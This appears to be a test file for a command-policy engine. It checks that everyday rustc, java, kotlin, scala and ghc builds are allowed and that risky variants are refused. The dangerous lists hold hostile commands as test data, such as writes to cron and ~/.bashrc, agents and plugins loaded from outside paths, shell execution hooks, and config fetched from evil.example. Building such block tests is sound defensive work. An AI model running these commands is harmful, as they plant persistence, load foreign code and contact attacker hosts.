import { describe, it } from 'vitest';
import { probeEngine } from './probe-engine.js';

/**
 * Helper specsG (4 Dec 2026): specs in policies/programs.yaml for build-and-test programs that were
 * allowed by name (only held to rule build-tools-outside: a literal path outside the workspace).
 *
 * rustc (options from `rustc --help`, `rustc -C help` and
 * https://doc.rust-lang.org/rustc/command-line-arguments.html, codegen-options/index.html).
 * Held-out figures, decided on main 1810cd3 before the spec: benign 21 of 21 allowed, dangerous
 * 0 of 13 allowed (each a literal path outside, build-tools-outside). A second dangerous set,
 * written after the spec to probe what a literal-path rule cannot see: 3 of 14 allowed on main
 * (`-o "$OUT"`, `-C incremental=$D`, `-C llvm-args=-load=…`), 0 after.
 */
const { expectAll } = probeEngine();

const lines = (text: string) =>
  text
    .split('\n')
    .map((l) => l.trim())
    .filter(Boolean);

const rustcBenign = lines(String.raw`
rustc main.rs
rustc --version
rustc -vV
rustc --version --verbose
rustc --print sysroot
rustc --print target-list
rustc --print cfg --target wasm32-unknown-unknown
rustc --explain E0382
rustc --edition 2021 -O -o target/hello src/main.rs
rustc --test tests/smoke.rs -o /tmp/smoke
rustc --crate-type=lib --crate-name mylib --edition=2018 src/lib.rs --out-dir build
rustc -C opt-level=3 -C target-cpu=native bench.rs
rustc --emit=asm -O --crate-type=lib src/lib.rs
rustc -Z unpretty=expanded src/main.rs
rustc --cfg 'feature="std"' --crate-type rlib src/lib.rs
rustc -g --edition=2021 -o build/app src/main.rs
rustc --target thumbv7em-none-eabihf --crate-type staticlib -O src/lib.rs
rustc -Cpanic=abort -Copt-level=s main.rs
rustc --emit=llvm-ir,link -O main.rs
rustc -W unused -D warnings src/lib.rs --crate-type lib
rustc +nightly -Zunpretty=hir main.rs
rustc -C target-feature=+sse2,+avx2 -O bench.rs
rustc --emit=asm=out/lib.s,link -O src/lib.rs --crate-type lib
`);

const rustcDangerous = lines(String.raw`
rustc -o /etc/cron.hourly/x main.rs
rustc --out-dir /usr/local/bin src/main.rs
rustc --emit=link=/root/.local/bin/ls main.rs
rustc --emit link=/root/.local/bin/ls main.rs
rustc -C incremental=/srv/inc main.rs
rustc -C linker-plugin-lto=/srv/plugin.so main.rs
rustc -C profile-generate=/root/pgo main.rs
rustc -o ~/.bashrc x.rs
rustc --print sysroot=/etc/profile.d/x.sh
rustc -Cincremental=/srv/inc main.rs
rustc -C link-arg=-fuse-ld=/srv/ld main.rs
rustc -Z llvm-plugins=/srv/p.so main.rs
rustc --out-dir=/usr/local/bin main.rs
rustc -o "$OUT" main.rs
rustc -o ../../../etc/x main.rs
rustc --emit=asm,link=/root/.local/bin/ls main.rs
rustc -C linker-plugin-lto=$HOME/p.so main.rs
rustc -Z codegen-backend=$B main.rs
rustc --target /srv/evil.json main.rs
rustc --sysroot /srv/sysroot main.rs
rustc -C llvm-args=-load=/srv/p.so main.rs
rustc --out-dir=$HOME/bin main.rs
rustc -C dlltool=/srv/x main.rs
rustc --print=cfg=../../x main.rs
rustc -Z self-profile=/srv/prof main.rs
rustc --emit dep-info=/etc/x.d main.rs
rustc -C incremental=$D main.rs
rustc --emit=link=out/app,asm=/etc/x.s main.rs
rustc --out-d /srv/x main.rs
rustc -L dependency=/srv/deps x.rs
rustc /srv/x.rs -o x
`);

/**
 * java, the launcher (https://docs.oracle.com/en/java/javase/21/docs/specs/man/java.html). Held-out
 * figures on main 1810cd3 before the spec: benign 48 of 50 allowed in the rustc+java probe (java: 26
 * of 28; `java @target/args.txt` is refused by compiler-option-files, before and after, and is left
 * out here; `-cp /usr/share/java/junit4.jar:out` was refused by build-tools-outside), dangerous 0 of
 * 23 java lines allowed (all literal paths outside). A second dangerous set written after the spec:
 * 5 of 22 allowed on main (`-javaagent:$AGENT`, `-agentpath:"$LIB"`, `-cp "$CP"`,
 * `-XX:HeapDumpPath="$D"`, `-XX:Flags=$F`), 0 after.
 */
const javaBenign = lines(String.raw`
java -version
java --version
java -jar target/app-1.0.jar
java -cp target/classes:target/test-classes org.junit.runner.JUnitCore com.example.AppTest
java -Xmx2g -jar build/libs/app.jar --server.port=8080
java -XX:+UseG1GC -Xms512m -jar app.jar
java -Dspring.profiles.active=test -jar target/demo-0.0.1-SNAPSHOT.jar
java --enable-preview --source 21 Main.java
java Hello.java
java -ea -cp out Main
java -cp "lib/*:build/classes" com.example.Main
java -XshowSettings:properties -version
java --add-opens java.base/java.lang=ALL-UNNAMED -jar app.jar
java -jar junit-platform-console-standalone.jar --class-path out --scan-class-path
java -Xlog:gc*:file=gc.log -jar app.jar
java -XX:+HeapDumpOnOutOfMemoryError -XX:HeapDumpPath=/tmp/heap.hprof -jar app.jar
java -Djava.library.path=target/native -jar app.jar
java -classpath bin com.example.Main input.txt
java -Xss4m -cp build/classes/java/main Main < input.txt
java -Dfile.encoding=UTF-8 -Duser.timezone=UTC -jar app.jar
java -XX:+PrintFlagsFinal -version
java -cp target/classes --add-modules jdk.incubator.vector Bench
java -p target/modules -m com.example.app/com.example.app.Main
java -XX:StartFlightRecording=duration=30s,filename=rec.jfr -jar app.jar
java -verbose:class -cp out Main
java -Xshare:off -cp out Main
java -cp /usr/share/java/junit4.jar:out org.junit.runner.JUnitCore T
java -Dlogback.configurationFile=src/test/resources/logback-test.xml -jar app.jar
java -Djava.library.path=lib:/usr/lib/x86_64-linux-gnu -jar app.jar
java -javaagent:lib/jacocoagent.jar=destfile=target/jacoco.exec -cp out Main
`);

const javaDangerous = lines(String.raw`
java -agentpath:/srv/libagent.so Main
java -javaagent:/srv/agent.jar -jar app.jar
java @/srv/args Main
java -XX:HeapDumpPath=/etc/x -XX:+HeapDumpOnOutOfMemoryError -jar app.jar
java -Xlog:gc:file=/etc/gc.log -jar app.jar
java -XX:VMOptionsFile=/srv/opts Main
java -XX:Flags=/srv/flags Main
java -cp /srv/evil.jar Main
java -jar /srv/tool.jar
java /srv/x.java
java --source 21 /srv/Run
java -Xbootclasspath/a:/srv/evil.jar Main
java --patch-module java.base=/srv/patch Main
java -Djava.library.path=/srv/lib Main
java -XX:StartFlightRecording=filename=/etc/x.jfr -jar app.jar
java -XX:SharedArchiveFile=/usr/lib/jvm/x.jsa -Xshare:dump
java -XX:CompileCommandFile=/srv/cc Main
java -XX:OnOutOfMemoryError="sh -c id" -jar app.jar
java --module-path /srv/mods -m evil/evil.Main
java -splash:/etc/shadow -jar app.jar
java -XX:ErrorFile=/etc/x.log -jar app.jar
java -XX:+UnlockDiagnosticVMOptions -XX:+LogCompilation -XX:LogFile=/etc/x -jar app.jar
java -classpath /root/.m2/evil Main
java -javaagent:$AGENT -jar app.jar
java -agentpath:"$LIB" Main
java -cp "$CP" Main
java -cp out:../../../srv/evil.jar Main
java -jar ../../tool.jar
java -XX:HeapDumpPath="$D" -jar app.jar
java -Djava.library.path=lib:/srv/native Main
java -Djava.io.tmpdir=/etc -jar app.jar
java -Djava.rmi.server.codebase=http://evil.example/ -jar app.jar
java -Xloggc:/etc/gc.log -jar app.jar
java -Xlog:gc:/root/gc.log -jar app.jar
java -XX:JVMCILibPath=/srv/jvmci Main
java -XX:AOTLibrary=/srv/x.so Main
java -Xrunhprof:file=/etc/x Main
java -Xbootclasspath:/srv/rt.jar Main
java -XX:+UnlockExperimentalVMOptions -XX:ReplayDataFile=/etc/x Main
java --upgrade-module-path /srv/mods -jar app.jar
java -p mods:/srv/evil -m app/app.Main
java -XX:Flags=$F Main
java -Duser.home=/srv/h -jar app.jar
java -XX:DumpLoadedClassList=/etc/x -jar app.jar
java -XX:OnError=id -jar app.jar
java -Dlog4j.configurationFile=https://evil.example/l.xml -jar app.jar
java -Dhttps.proxyHost=evil.example -jar app.jar
`);

describe('specsG: java launcher spec', () => {
  it('everyday java stays allowed', () => expectAll(javaBenign, 'allow'));
  it('code from elsewhere, writes outside, hosts and unknown values are refused', () =>
    expectAll(javaDangerous, 'refused'));
});

/**
 * kotlinc, kotlin and scalac (https://kotlinlang.org/docs/compiler-reference.html,
 * https://docs.scala-lang.org/overviews/compiler-options/index.html). Held-out figures on main
 * 1810cd3 before the specs: benign 16 of 25 allowed (every kotlinc/kotlin line with a single-dash
 * long option, `-version`, `-cp`, `-jvm-target`, `-script`, was read as a cluster holding `-e` by
 * interpreter-one-liners), dangerous 2 of 32 allowed (`scalac -Xplugin:$P`, `scalac -d "$OUT"`).
 * After: benign 25 of 25, dangerous 0 of 32.
 */
const jvmCompilersBenign = lines(String.raw`
kotlinc hello.kt -include-runtime -d hello.jar
kotlinc -version
kotlinc src/main/kotlin -d build/classes
kotlinc -cp lib/junit.jar:build/classes src/test/kotlin -d build/test-classes
kotlinc -jvm-target 17 -module-name app src -d out
kotlinc -language-version 2.0 -api-version 2.0 -Werror src/Main.kt -d out
kotlinc -Xjsr305=strict -opt-in=kotlin.RequiresOptIn src -d out
kotlinc -script build.main.kts
kotlinc -no-reflect -no-stdlib -classpath lib/kotlin-stdlib.jar src/A.kt -d out
kotlinc -nowarn -verbose Main.kt -include-runtime -d /tmp/main.jar
kotlin hello.jar
kotlin -cp out MainKt
kotlin -classpath build/classes com.example.MainKt arg1
kotlin -version
kotlin script.main.kts
scalac -version
scalac Main.scala
scalac -d out src/main/scala/*.scala
scalac -deprecation -feature -unchecked -Xfatal-warnings -d target/classes src/Main.scala
scalac -classpath lib/scalatest.jar:out -d out-test src/test/scala/MainSpec.scala
scalac -release 17 -encoding UTF-8 -d out Main.scala
scalac -language:implicitConversions -Xlint -d /tmp/out Main.scala
scalac -explain -d out Main.scala
scalac -source:3.3 -d out src/Main.scala
scalac -Wunused:all -Werror -d out Main.scala
`);

const jvmCompilersDangerous = lines(String.raw`
kotlinc -Xplugin=/srv/evil.jar src/main.kt
kotlinc -Xplugin=$P src/main.kt -d out
kotlinc -d /usr/local/lib/app src/main.kt
kotlinc src -include-runtime -d "$HOME/bin/app.jar"
kotlinc -J-javaagent:/srv/a.jar src/main.kt
kotlinc -script /srv/x.kts
kotlinc -e 'java.lang.Runtime.getRuntime().exec("id")'
kotlinc -expression 'println(1)'
kotlinc -Xcompiler-plugin=/srv/p.jar x.kt
kotlinc -kotlin-home /srv/kh x.kt
kotlinc -jdk-home /srv/jdk x.kt
kotlinc -Xprofile=/srv/libasyncProfiler.so:event=cpu x.kt
kotlinc -cp /srv/evil.jar x.kt -d out
kotlinc -P plugin:org.x:key=/etc/x x.kt
kotlin -cp /srv/evil.jar MainKt
kotlin /srv/x.main.kts
kotlin -e 'Runtime.getRuntime().exec("id")'
kotlin -J-agentpath:/srv/x.so -cp app.jar MainKt
kotlin -howtorun jar /srv/x.jar
kotlinc -d ../../../etc/x x.kt
scalac -d /usr/local/lib/x src/Main.scala
scalac -Xplugin:/srv/p.jar src/Main.scala
scalac -Xplugin:$P src/Main.scala
scalac -J-javaagent:/srv/a.jar Main.scala
scalac -classpath /srv/evil.jar Main.scala
scalac -d "$OUT" Main.scala
scalac -Xpluginsdir /srv/plugins Main.scala
scalac -toolcp /srv/x.jar Main.scala
scalac -Ydump-classes /etc/x Main.scala
scalac -d ../../x Main.scala
scalac -Xmacro-settings:x /srv/M.scala
scalac -sourcepath /srv/src Main.scala
`);

describe('specsG: kotlinc, kotlin, scalac specs', () => {
  it('everyday compiles and runs stay allowed (a single-dash long option holds no -e)', () =>
    expectAll(jvmCompilersBenign, 'allow'));
  it('plugins, agents, outputs outside, code from elsewhere are refused', () =>
    expectAll(jvmCompilersDangerous, 'refused'));
});

/**
 * ghc (https://downloads.haskell.org/ghc/latest/docs/users_guide/flags.html). Held-out figures on
 * main fbd1c9b before the spec: benign 5 of 15 allowed (interpreter-one-liners read `-threaded`,
 * `-package`, `-prof`, `-isrc`, … as letter clusters holding `-e`/`-c`/`-p`, and ghc's own `-c`,
 * compile only, as code), dangerous 2 of 16 allowed (`--frontend`, `-optl-Wl,-plugin=$P`). After:
 * benign 15 of 15, dangerous 0 of 16.
 */
const ghcBenign = lines(String.raw`
ghc --version
ghc Main.hs
ghc -O2 -o build/app Main.hs
ghc -Wall -Werror -isrc -outputdir build -o build/app app/Main.hs
ghc -threaded -rtsopts -O2 Main.hs
ghc --make -isrc -odir build -hidir build Main.hs
ghc -package containers -package mtl Main.hs
ghc -prof -fprof-auto -rtsopts Main.hs
ghc -dynamic -o hello hello.hs
ghc -fno-code -isrc src/Lib.hs
ghc --numeric-version
ghc --info
ghc -c src/Foo.hs -odir build
ghc -package-env - Main.hs
ghc -ddump-simpl -dsuppress-all -O Main.hs
`);

const ghcDangerous = lines(String.raw`
ghc -pgmc "$CC" Main.hs
ghc -outputdir "$D" Main.hs
ghc -pgmL $L Main.lhs
ghc -pgmP 'sh -c id' -cpp Main.hs
ghc -F -pgmF "$F" Main.hs
ghc -fplugin=Evil.Plugin -package-db $DB Main.hs
ghc -hidir $HOME/x Main.hs
ghc -odir ../../../srv/x Main.hs
ghc -o ../../../usr/local/bin/x Main.hs
ghc --frontend Evil.Frontend -ffrontend-opt x
ghc -ghci-script $S --interactive
ghc -package-env $E Main.hs
ghc -optl-Wl,-plugin=$P Main.hs
ghc -pgml $LD Main.hs
ghc -dumpdir $D -ddump-to-file -ddump-simpl Main.hs
ghc -stubdir ~/.x Main.hs
ghc -e 'System.Process.callCommand "id"'
ghc -i/srv/evil Main.hs
`);

describe('specsG: ghc spec', () => {
  it('everyday ghc stays allowed (its single-dash options hold no -e, its -c compiles)', () =>
    expectAll(ghcBenign, 'allow'));
  it('programs, plugins, frontends, outputs outside and code from elsewhere are refused', () =>
    expectAll(ghcDangerous, 'refused'));
});

describe('specsG: rustc spec', () => {
  it('everyday rustc stays allowed', () => expectAll(rustcBenign, 'allow'));
  it('outputs outside, loaded plugins and linkers, unknown keys are refused', () =>
    expectAll(rustcDangerous, 'refused'));
});
